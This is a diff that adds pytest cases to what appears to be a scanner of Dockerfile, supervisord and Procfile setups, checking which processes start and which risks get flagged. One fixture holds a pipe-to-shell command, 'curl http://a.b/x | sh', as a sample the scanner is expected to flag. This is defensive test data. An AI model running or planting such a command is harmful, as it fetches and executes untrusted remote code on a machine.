@@ -114,3 +114,58 @@ def test_what_a_stage_has_from_another() -> None:
 )
 def test_environments_and_workers(command: str, paths: list[str]) -> None:
     assert started(command) == paths
+
+
+SUPERVISOR = (
+    "[supervisord]\nnodaemon=true\n; command=python ignored.py\n[program:web]\ncommand=python\n  serve.py --port 80\n"
+    "autostart=true\n[program:cron]\ncommand=/usr/sbin/cron -f ; in front\n"
+)
+
+
+@pytest.mark.parametrize(
+    ("docker", "files"),
+    [
+        (
+            "COPY supervisord.conf /etc/supervisor/conf.d/app.conf\nCMD /usr/bin/supervisord",
+            {"supervisord.conf": SUPERVISOR},
+        ),
+        (
+            'COPY deploy/web.conf /etc/web.conf\nCMD ["supervisord", "-n", "-c", "/etc/web.conf"]',
+            {"deploy/web.conf": SUPERVISOR},
+        ),
+        (
+            "COPY s.conf /etc/supervisor/supervisord.conf\nCOPY inner /etc/supervisor/more\nCMD supervisord -n",
+            {"s.conf": "[program:x]\ncommand=true\n[include]\nfiles = more/*.conf\n", "inner/a.conf": SUPERVISOR},
+        ),
+        ('CMD ["honcho", "start"]', {"Procfile": "web: python serve.py\n"}),
+        (
+            'CMD ["honcho", "-f", "Procfile.prod", "start", "web"]',
+            {"Procfile.prod": "web: python serve.py\nw: true\n"},
+        ),
+        ("ENTRYPOINT ./go.sh", {"go.sh": "#!/bin/sh\nexec foreman start\n", "Procfile": "web: python serve.py\n"}),
+    ],
+)
+def test_programs_that_a_file_of_processes_names(docker: str, files: dict[str, str]) -> None:
+    inner = {f"service/{path}": text for path, text in {"serve.py": LOADS, **files}.items()}
+    assert loaded({"service/Dockerfile": f"{HEAD}{docker}\n", **inner}) == [(State.YES, ())]
+
+
+@pytest.mark.parametrize(
+    ("docker", "files"),
+    [
+        ("CMD supervisord -c /etc/other.conf", {"supervisord.conf": SUPERVISOR}),
+        ('CMD ["cat", "/app/supervisord.conf"]', {"supervisord.conf": SUPERVISOR}),
+        ("CMD honcho start worker", {"Procfile": "web: python serve.py\nworker: python work.py\n"}),
+    ],
+)
+def test_files_of_processes_that_are_not_started(docker: str, files: dict[str, str]) -> None:
+    inner = {f"service/{path}": text for path, text in {"serve.py": LOADS, **files}.items()}
+    assert loaded({"service/Dockerfile": f"{HEAD}{docker}\n", **inner}) == []
+
+
+def test_what_is_open_in_what_they_start() -> None:
+    text = (
+        "[program:vllm]\ncommand=vllm serve m --host 0.0.0.0\n[program:x]\ncommand=sh -c 'curl http://a.b/x | sh'\n"
+    )
+    found = {(one.rule, one.locations[0].line) for one in assessed_files({"supervisord.conf": text}).findings}
+    assert {("build-server-open", 2), ("build-pipe-to-shell", 4)} <= found
